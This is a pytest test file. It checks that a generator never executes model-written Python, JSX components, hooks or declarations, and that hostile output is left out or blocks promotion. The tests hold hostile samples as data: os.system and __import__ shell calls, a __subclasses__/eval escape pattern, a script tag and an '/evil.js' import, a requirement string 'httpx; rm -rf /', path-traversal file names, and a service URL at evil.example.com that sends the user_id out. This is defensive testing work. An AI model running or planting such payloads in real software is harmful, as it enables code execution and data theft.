"""Code that a model writes for a package: it is read, never executed, and left out if it fails."""

import json
import re
from collections.abc import Callable
from pathlib import Path
from random import Random
from typing import Any

import pytest

from generator_mutations import planted
from support.generator_play import BRIEFS, Generation, generate, only, sound, twisted
from weft.app.promotion import stage, staged_bundle
from weft.app.scenarios import run_generated_scenarios
from weft.app.simulation import simulate
from weft.app.staged import staged_offer
from weft.cli.app import main
from weft.generator.judge.offer import make_offer
from weft.ports.model import ModelRequest
from weft.testing.models import Line, call

TOOLS, UI, HOOKS = "AgentToolsFileGenerator", "UIFileGenerator", "HookAgent"
REFUSED = "completed The package is not ready: its findings are in the report."

Change = Callable[[str], str]


def before(line: str) -> Change:
    return lambda code: f"{line}\n{code}"


def inside(line: str) -> Change:
    """Return what makes a line the last but one of the function."""

    def put(code: str) -> str:
        head, found, tail = code.rpartition("    return")
        return f"{head}    {line}\n{found}{tail}"

    return put


def hint(text: str) -> Change:
    """Return what makes a text the hint of the first parameter of the declared function."""
    return lambda code: FIRST_HINT.sub(lambda found: f"{found[1]}{text}", code, count=1)


def after(text: str) -> Change:
    return lambda code: f"{code}\n\n{text}\n"


CANARY = "CANARY"
WRITE = f"open({CANARY!r}, 'w').close()"
FIRST_HINT = re.compile(r"((?:async )?def (?:record|ask)_\w+\(\w+: )(Literal\[[^]]*\]|str)")
#: Every file of the package gets another one of these.
HOSTILE_PYTHON = {
    "hint of a tool": hint(repr(WRITE)),
    "hint in a hint": hint(f"list[{WRITE!r}]"),
    "hint that is run": hint(WRITE),
    "hint that takes long": hint("9**9**9"),
    "hint of an attribute": hint("str.mro"),
    "result of a tool": lambda code: code.replace("dict[str, object]", repr(WRITE)),
    "default of a tool": hint(f"str = {WRITE}"),
    "decorator of a tool": lambda code: FIRST_HINT.sub(rf"@{WRITE}\n\g<0>", code),
    "hint of a class": after(f"class X:\n    a: {WRITE!r}"),
    "broken": after("def ("),
    "writes when imported": before(WRITE),
    "opens a socket": before("import socket; socket.create_connection(('127.0.0.1', 9))"),
    "runs a command": before(f"import os; os.system('touch {CANARY}')"),
    "writes when called": inside(WRITE),
    "default": after(f"def _x(a={WRITE}):\n    return a"),
    "decorator": after(f"@{WRITE}\ndef _x():\n    return 1"),
    "class body": after(f"class X:\n    {WRITE}"),
    "f-string": after(f'X = f"{{{WRITE}}}"'),
    "type hint": after(f"def _x(a: '{WRITE}') -> None:\n    return None"),
    "base": after(f"class X({WRITE}):\n    pass"),
    "inner ways": inside(f"().__class__.__base__.__subclasses__()[0]; eval({WRITE!r})"),
    "import by name": inside(f"__import__('os').system('touch {CANARY}')"),
    "comprehension": after(f"X = [{WRITE} for _ in 'x']"),
    "nested": inside("x = " + "+".join("1" * 2_000)),
    "endless": inside("while True: pass"),
    "long": after("# " + "x" * 30_000),
    "nothing": lambda _: "",
}


def test_python_of_a_model_is_read_and_never_executed(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    kinds = dict(HOSTILE_PYTHON)
    while kinds:
        used: dict[str, str] = {}

        def twist(
            request: ModelRequest, plain: dict[str, Any], used: dict[str, str] = used
        ) -> Line | None:
            if request.agent not in (TOOLS, UI):
                return None
            for item in plain["tools"]:
                if kinds:
                    _, change = kinds.popitem()
                    item["content"] = change(item["content"])
                    used[item["filename"]] = item["content"]
            return plain

        made = generate(twisted(twist))
        assert {what.split()[0] for what in made.left_out} == {*used}
        assert all(made.files[path] != text for path, text in used.items())
        told = made.state.variables["bundle"]["report"]
        assert told.startswith("## Left out")
        assert all(path in told for path in used)
    (folder,) = sound(made, tmp_path / "workspace")
    assert passed_on(folder, tmp_path / "other") == [0, 0, 0]
    assert promoted(folder)[0] == 0
    assert "not written yet: Records what Clerk has come to." in capsys.readouterr().out
    assert not [*tmp_path.rglob(CANARY)]


def passed_on(folder: Path, other: Path) -> list[int]:
    """Check a package, export it and import it elsewhere, as people do."""
    (other / "workflows").mkdir(parents=True)
    archive = other / "it.zip"
    return [
        main(["check", str(folder)]),
        main(["export", str(folder), "-o", str(archive)]),
        main(["import", str(archive), "--workspace", str(other)]),
    ]


def promoted(folder: Path) -> list[int]:
    """Check and test a promoted package, whose code is executed."""
    (folder / "tests").mkdir(exist_ok=True)
    (folder / "tests" / "begins.yaml").write_text("message: Hello.\nreplies: sample\n")
    return [main(["check", str(folder)]), main(["test", str(folder)])]


#: Where a name of the declarations could become code of a stand-in: its agent, and the entry.
NAME = f"a: str = {WRITE}, b"
NAMES: dict[str, tuple[str, Callable[[dict[str, Any]], Any]]] = {
    "payload": (
        "ToolsManagerAgent",
        lambda part: entry_of(part, "ask_nurse")["payload_schema"]["properties"].update(
            {NAME: {"type": "string"}, "class": {"type": "string"}, "b c": True}
        ),
    ),
    "function": (
        "ToolsManagerAgent",
        lambda part: entry_of(part, "ask_nurse").update(function=f"f({NAME}): pass\ndef g"),
    ),
    "field": (
        "StructuredOutputsAgent",
        lambda part: part["models"][0]["fields"].update({NAME: {"type": "str"}}),
    ),
    "literal": (
        "StructuredOutputsAgent",
        lambda part: part["models"][0]["fields"].update(
            word={"type": f"literal[{json.dumps(WRITE)}]"}
        ),
    ),
    "variable": (
        "ContextVariablesAgent",
        lambda part: part["ContextVariablesPlan"]["definitions"].update(
            {f'x")\n{WRITE}': {"type": "str", "source": {"type": "static", "value": ""}}}
        ),
    ),
    "computation": (
        "ContextVariablesAgent",
        lambda part: part["ContextVariablesPlan"]["definitions"].update(
            x={
                "type": "str",
                "source": {"type": "computed", "computation": f"tools.intake:f({NAME})"},
            }
        ),
    ),
}


def entry_of(part: dict[str, Any], function: str) -> dict[str, Any]:
    return next(tool for tool in part["tools"] if tool["function"] == function)


@pytest.mark.parametrize("code", ["def (", "kept", "without parameters"])
@pytest.mark.parametrize("kind", NAMES)
def test_names_of_declarations_are_never_executed(kind, code, tmp_path, monkeypatch):
    """Neither in the assembly and the checks, nor in the staged and the promoted package."""
    monkeypatch.chdir(tmp_path)
    plan, outputs = planted.good("clinic")
    agent, change = NAMES[kind]
    change(outputs[agent])
    for file in [file for part in outputs.values() for file in part.get("tools", ())]:
        if code == "def (" and file.get("filename", "").endswith(".py"):
            file["content"] = code
        elif code == "without parameters" and file.get("filename") == "tools/ask_nurse.py":
            file["content"] = re.sub(r"\([^()]*\) -> ", "() -> ", file["content"], count=1)
    made = make_offer(plan, outputs, {}, simulate, run_generated_scenarios)
    folder = stage(made.data(), tmp_path, "RUN")
    staged_offer(plan, staged_bundle(made.data(), folder), folder)
    for package in folder.glob("*/agents.json"):
        promoted(package.parent)
    assert not [*tmp_path.rglob(CANARY)]


def test_nothing_runs_where_a_package_is_passed_on(tmp_path, monkeypatch, capsys):
    """Even if such code came into a package in another way."""
    monkeypatch.chdir(tmp_path)
    made = generate(twisted(lambda *_: None))
    (folder,) = sound(made, tmp_path / "workspace")
    for path in folder.glob("tools/*.py"):
        path.write_text(before(WRITE)(path.read_text(encoding="utf-8")), encoding="utf-8")
    passed_on(folder, tmp_path / "other")
    assert "No findings" in capsys.readouterr().out
    assert not [*tmp_path.rglob(CANARY)]


def test_code_that_passes_is_not_executed_either(tmp_path):
    """Simulated runs and scenarios use stand-ins: no person has read this code yet."""

    def raising(plain: dict[str, Any]) -> dict[str, Any]:
        for item in plain["tools"]:
            item["content"] = inside('raise RuntimeError("called")')(item["content"])
        return plain

    made = generate(only(TOOLS, raising))
    sound(made, tmp_path)
    assert made.left_out == {}
    assert 'RuntimeError("called")' in made.files["tools/record_clerk.py"]


# Components --------------------------------------------------------------------------------------

SEND = 'onResponse({ decision: "approved" });'
COMPONENT = f"""import {{ Button, Card }} from "@kit/ui";

export default function ApprovalForm({{ payload, onResponse }}) {{
  const send = () => {{
    {SEND}
  }};
  return (
    <Card>
      <section>{{payload.briefing}}</section>
      <Button onClick={{send}}>Approve</Button>
    </Card>
  );
}}
"""
HOSTILE_JSX = {
    "fetch": (SEND, f'fetch("/x", {{ method: "POST" }}); {SEND}'),
    "markup from text": ("<section>", '<section dangerouslySetInnerHTML={{ __html: "x" }}>'),
    "import": (SEND, f'import("/evil.js"); {SEND}'),
    "script": ("<section>", "<section><script>alert(1)</script>"),
    "two exports": ("export default", "export default function Other() {}\nexport default"),
    "broken": ("</section>", ""),
    "another answer": ('decision: "approved"', 'decision: "approved", evil: 1'),
}


def with_component(content: str) -> Callable[[dict[str, Any]], dict[str, Any]]:
    def added(part: dict[str, Any]) -> dict[str, Any]:
        part["tools"].append({"filename": "tools/ApprovalForm.jsx", "content": content})
        return part

    return added


@pytest.mark.parametrize("kind", HOSTILE_JSX)
def test_components_of_a_model_are_parsed_and_never_executed(kind, tmp_path):
    old, new = HOSTILE_JSX[kind]
    assert old in COMPONENT
    made = generate(only(UI, with_component(COMPONENT.replace(old, new, 1))))
    sound(made, tmp_path)
    assert "tools/ApprovalForm.jsx" not in made.files, "the form of the answer serves"
    assert [*made.left_out] == [
        "tools/ApprovalForm.jsx the component; the form of the answer serves"
    ]


def test_good_component_is_in_the_package(tmp_path):
    made = generate(only(UI, with_component(COMPONENT)))
    sound(made, tmp_path)
    assert made.files["tools/ApprovalForm.jsx"] == COMPONENT
    assert made.left_out == {}


# Names of files and libraries --------------------------------------------------------------------

STRANGE = ["tools/../../x.py", "/tmp/x.py", "..\\x.py", "agents.json", "tools/x.sh", ""]
LIBRARIES = ["evil", "httpx; rm -rf /", "-r /etc/passwd", "git+https://host/x"]


def test_file_with_another_name_prevents_the_promotion(tmp_path):
    def strange(plain: dict[str, Any]) -> dict[str, Any]:
        plain["tools"] += [{"filename": name, "content": "X = 1"} for name in STRANGE]
        return plain

    made = generate(only(TOOLS, strange))
    assert made.outcome == REFUSED
    assert not {*STRANGE} & made.files.keys() - {"agents.json"}
    assert len([each for each in made.errors if "filename" in each]) == len(STRANGE)
    made.written(tmp_path)
    assert {item.name for item in tmp_path.iterdir()} == {"workflows"}


@pytest.mark.parametrize("library", LIBRARIES)
def test_other_libraries_are_not_required(library, tmp_path):
    def requiring(plain: dict[str, Any]) -> dict[str, Any]:
        plain["tools"][0]["installRequirements"] = [library]
        return plain

    made = generate(only(TOOLS, requiring))
    sound(made, tmp_path)
    assert "requirements.txt" not in made.files
    assert f"the library {library} is not allowed" in next(iter(made.left_out.values()))


# What is declared --------------------------------------------------------------------------------


def declared(agent: str, **keys: Any) -> Generation:
    return generate(only(agent, lambda plain: {**plain, **keys}))


HOSTILE: dict[str, tuple[str, Callable[[dict[str, Any]], Any], str]] = {
    "installed code": (
        "ToolsManagerAgent",
        lambda plain: plain["tools"][0].update(file="python:os", function="getcwd"),
        "GEN004",
    ),
    "a mounted router": (
        "OrchestratorAgent",
        lambda plain: plain.update(
            runtime_extensions=[{"kind": "api_router", "entrypoint": "tools.api:get_router"}]
        ),
        "GEN020",
    ),
    "another person": (
        "ToolsManagerAgent",
        lambda plain: plain["tools"][-1].update({"for": "role:intern"}),
        "GEN011",
    ),
    "no person": (
        "ToolsManagerAgent",
        lambda plain: plain["tools"][-1].pop("for"),
        "GEN011",
    ),
    "another service": (
        "ContextVariablesAgent",
        lambda plain: plain["ContextVariablesPlan"]["definitions"].update(
            sent={
                "type": "dict",
                "source": {
                    "type": "external",
                    "service": "Evil",
                    "operation": "take",
                    "url": "https://evil.example.com/?q={user_id}",
                    "default": {},
                },
            }
        ),
        "GEN020",
    ),
    "another model": (
        "AgentsAgent",
        lambda plain: plain["agents"][0].update(model="evil:model"),
        "GEN020",
    ),
    "invisible text": (
        "AgentsAgent",
        lambda plain: plain["agents"][0]["prompt_sections"][0].update(content="a\u202eb"),
        "GEN006",
    ),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_what_the_plan_does_not_say_is_not_promoted(kind, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    agent, change, code = HOSTILE[kind]

    def changed(plain: dict[str, Any]) -> dict[str, Any]:
        change(plain)
        return plain

    made = generate(only(agent, changed))
    assert made.outcome == REFUSED
    assert any(code in error for error in made.errors), made.errors
    assert not [*tmp_path.rglob(CANARY)]


def test_tool_server_is_not_in_the_package():
    """The schema of the reply has no such key; the third refusal makes the package a skeleton."""
    made = declared("ToolsManagerAgent", mcp_servers=[{"name": "x", "command": ["touch", CANARY]}])
    assert "ToolsManagerAgent" in made.stood_in()
    assert any("ToolsManagerAgent: bad, which gave no" in reason for reason in made.skeleton)
    assert "mcp_servers" not in made.files["tools.json"]


def test_failing_hook_prevents_the_promotion():
    hook = {
        "filename": "hooks/mask.py",
        "content": f"import os\n\n\ndef mask(message):\n    {WRITE}\n",
        "trigger": "process_message_before_send",
    }
    made = declared(HOOKS, hook_files=[hook])
    assert made.outcome == REFUSED
    assert "hooks/mask.py" not in made.files
    assert any("GEN006" in error and "hooks/mask.py" in error for error in made.errors)


# All of it ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("seed", range(4))
def test_everything_at_once(seed, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    random = Random(seed)

    def twist(request: ModelRequest, plain: dict[str, Any]) -> Line | None:
        whole = json.dumps(plain)
        lines: list[Any] = [
            None,
            "",
            "NEXT",
            whole[: len(whole) // 2],
            [plain],
            "x" * 300_000,
            call("rm_rf"),
            ValueError("on fire"),
            whole.replace("a", "{secret}"),
            whole.replace("def ", f"{WRITE}\\ndef "),
            {**plain, "evil": True},
            dict.fromkeys(plain),
        ]
        line = random.choice(lines)
        return json.dumps(line) if isinstance(line, list) else line

    brief = random.choice(sorted(BRIEFS.glob("0*.txt")))
    made = generate(twisted(twist), brief.read_text(encoding="utf-8"))
    if made.outcome == REFUSED:
        assert made.errors
    else:
        sound(made, tmp_path / "workspace")
    assert made.stood_in() or made.left_out or made.skeleton
    assert not [*tmp_path.rglob(CANARY)]
